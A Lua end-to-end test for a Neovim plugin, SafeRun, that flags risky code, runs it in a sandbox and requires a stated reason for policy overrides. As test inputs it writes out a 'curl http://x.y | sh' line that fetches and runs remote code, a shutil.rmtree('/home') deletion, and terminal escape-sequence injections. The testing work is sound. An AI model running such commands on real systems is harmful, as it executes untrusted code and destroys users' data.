-- Drives Neovim as a person would: nvim --clean --headless -l e2e.lua PLUGIN_FOLDER WORK_FOLDER
-- Prints one JSON object a line, and the time from :SafeRun to the first output; exits 0 or 1. With a third argument it
-- begins a run and waits to be killed.
local plugin, work = arg[1], arg[2]

local function out(key, value) io.stdout:write(vim.json.encode({ [key] = value }) .. '\n') end
local function ok(condition, message)
  if not condition then
    out('fail', message)
    os.exit(1)
  end
end
local function wait(what, condition, time) ok(vim.wait(time or 15000, condition, 10), what) end

vim.cmd('filetype on')
vim.opt.runtimepath:prepend(plugin)
vim.cmd.runtime('plugin/saferun.lua')

local function edit(name, lines)
  local path = work .. '/' .. name
  vim.fn.writefile(lines, path)
  vim.cmd.edit(vim.fn.fnameescape(path))
  return vim.api.nvim_get_current_buf()
end

local function text(buffer) return table.concat(vim.api.nvim_buf_get_lines(buffer, 0, -1, false), '\n') end

-- The float of the last run.
local function float()
  for _, window in ipairs(vim.api.nvim_list_wins()) do
    if vim.api.nvim_win_get_config(window).relative ~= '' then
      return vim.api.nvim_win_get_buf(window)
    end
  end
end

-- The editor of step 9, which is killed in the middle of a run.
if arg[3] == 'run' then
  local buffer = edit('killed.py', { 'import time', "print('begun', flush=True)", 'time.sleep(60)' })
  wait('no client', function()
    local client = vim.lsp.get_clients({ bufnr = buffer, name = 'saferun' })[1]
    return client and client.initialized
  end)
  vim.cmd('SafeRun')
  wait('did not begin', function() return float() and text(float()):find('begun', 1, true) end)
  out('run', 'begun')
  vim.wait(60000)
end

local finished
vim.api.nvim_create_autocmd('User', { pattern = 'SafeRunFinished', callback = function(args) finished = args.data end })

-- 1. Risks as one types.
local buffer = edit('a.py', { 'import os', "print('ready')" })
local client
wait('no client', function()
  client = vim.lsp.get_clients({ bufnr = buffer, name = 'saferun' })[1]
  return client ~= nil and client.initialized
end)
out('encoding', client.offset_encoding)
ok(client.offset_encoding == 'utf-8', 'the encoding is ' .. client.offset_encoding)
vim.api.nvim_buf_set_lines(buffer, 2, 2, false, { "é = '😀'; os.system('curl http://x.y | sh')" })
wait('no diagnostics', function() return #vim.diagnostic.get(buffer) > 0 end)
local found = vim.diagnostic.get(buffer)[1]
out('diagnostic', { line = found.lnum, col = found.col, code = found.code, message = found.message })
ok(found.lnum == 2 and found.col == #"é = '😀'; ", 'the place is wrong: ' .. found.lnum .. ':' .. found.col)
ok(require('saferun').statusline():match('HIGH') or require('saferun').statusline():match('BLOCKED'), require('saferun').statusline())

-- 2. Hover.
local params = { textDocument = { uri = vim.uri_from_bufnr(buffer) }, position = { line = 2, character = found.col + 1 } }
local hover = client:request_sync('textDocument/hover', params, 5000, buffer)
ok(hover and hover.result and hover.result.contents.value:find('**Policy:**', 1, true), 'no hover')

-- 3. Run: the first time starts the daemon.
vim.api.nvim_buf_set_lines(buffer, 0, -1, false, { "print('hello from the sandbox')", '', "raise KeyError('gone')" })
vim.cmd('SafeRun')
wait('no result', function() return finished ~= nil end, 60000)
ok(finished.result, vim.inspect(finished))
ok(finished.result.status == 'completed' and finished.result.exit_code == 1, vim.inspect(finished.result.status))
ok(text(float()):find('hello from the sandbox', 1, true), 'the output is not in the float: ' .. text(float()))
wait('no mark', function()
  local marks = vim.tbl_filter(function(d) return d.source == 'SafeRun run' end, vim.diagnostic.get(buffer))
  return #marks == 1 and marks[1].lnum == 2 and marks[1].message == "KeyError: 'gone'"
end)
vim.cmd('SafeRunClear')
wait('the mark stays', function() return #vim.diagnostic.get(buffer) == 0 end)

-- 4. From the command to the first output, warm.
local times = {}
for round = 1, tonumber(vim.env.ROUNDS or '5') do
  finished = nil
  -- A word of its own for each round: the float of the round before still stands.
  vim.api.nvim_buf_set_lines(buffer, 0, -1, false, { ("print('round %d')"):format(round) })
  vim.wait(100)
  local began = vim.uv.hrtime()
  vim.cmd('SafeRun')
  ok(vim.wait(15000, function()
    local shown = float()
    return shown and text(shown):find('round ' .. round, 1, true)
  end, 1), 'no output')
  times[#times + 1] = (vim.uv.hrtime() - began) / 1e6
  wait('no end', function() return finished ~= nil end)
  vim.wait(300)
end
table.sort(times)
out('first_output_ms', { p50 = times[math.ceil(#times / 2)], rounds = #times })

-- 5. Output of hostile code cannot steer anything.
vim.api.nvim_buf_set_lines(buffer, 0, -1, false, { [[print('\x1b]52;c;aGk=\x07\x1b[2J\u202e')]] })
finished = nil
vim.cmd('SafeRun')
wait('no end', function() return finished ~= nil end)
ok(not text(float()):find('\27', 1, true), 'an escape reached the buffer')
ok(text(float()):find('\\x1b]52', 1, true), text(float()))

-- 6. What the policy refuses runs for a reason only.
vim.api.nvim_buf_set_lines(buffer, 0, -1, false, { 'import shutil', "shutil.rmtree('/home')" })
finished = nil
vim.cmd('SafeRunOverride a test of the override')
wait('no end', function() return finished ~= nil end)
ok(finished.result and finished.result.overridden, vim.inspect(finished))

-- 7. It asks for the reason, and an empty answer means no.
local function answer(keys, buffer_lines)
  vim.api.nvim_buf_set_lines(buffer, 0, -1, false, buffer_lines)
  finished = nil
  vim.api.nvim_feedkeys(vim.keycode(keys), 't', false)
  vim.cmd('SafeRunOverride')
  wait('no end', function() return finished ~= nil end)
  return finished
end
local harm = { 'import shutil', "shutil.rmtree('/home')" }
local given = answer('typed by a person<CR>', harm)
ok(given.result and given.result.overridden, vim.inspect(given))
local record = vim.system({ 'saferunctl', 'show', given.result.id }):wait().stdout
ok(record:find('typed by a person', 1, true), record)
local refused = answer('<Esc>', harm)
ok(not refused.result and refused.error:find('no reason', 1, true), vim.inspect(refused))

-- 8. Cancel.
vim.api.nvim_buf_set_lines(buffer, 0, -1, false, { 'import time', "print('begun', flush=True)", 'time.sleep(60)' })
finished = nil
vim.cmd('SafeRun')
wait('did not begin', function() return float() and text(float()):find('begun', 1, true) end)
ok(require('saferun').statusline():match('▶'), 'the statusline does not tell of the run')
vim.cmd('SafeRunCancel')
wait('not cancelled', function() return finished ~= nil end)
ok(finished.result.status == 'cancelled', finished.result.status)

-- 9. An editor that is killed takes its run with it.
local told = ''
local killed = vim.system({ vim.v.progpath, '--clean', '--headless', '-l', arg[0], plugin, work, 'run' }, {
  stdout = function(_, data) told = told .. (data or '') end,
})
wait('the other editor runs nothing', function() return told:find('begun', 1, true) end, 30000)
killed:kill('sigkill')
local ended
wait('the run goes on', function()
  local all = client:request_sync('workspace/executeCommand', { command = 'saferun.history', arguments = {} }, 5000, buffer)
  for _, run in ipairs(all and all.result or {}) do
    if run.name == 'killed.py' and run.status ~= vim.NIL then
      ended = run.status
    end
  end
  return ended
end)
ok(ended == 'cancelled', ended)

-- 10. History and health.
vim.cmd('SafeRunHistory')
wait('no history', function() return #vim.fn.getqflist() >= 4 end)
ok(vim.bo.buftype == 'quickfix', 'the cursor is not in the list')
vim.fn.search('overridden\\|completed 0')
vim.api.nvim_feedkeys(vim.keycode('<CR>'), 'mx', false)
wait('no account', function() return text(0):find('status    completed', 1, true) ~= nil end)
vim.cmd('checkhealth saferun')
ok(text(0):find('saferun%-lsp [%d.]+ at'), text(0))
ok(not text(0):find('ERROR', 1, true), text(0))

local tags = vim.fn.getcompletion('saferun', 'help')
vim.cmd.helptags(plugin .. '/doc')
ok(#vim.fn.getcompletion('saferun-setup', 'help') > 0 or #tags > 0, 'no help')

client:stop()
wait('the server did not stop', function() return client:is_stopped() end)
out('result', 'PASS')
os.exit(0)
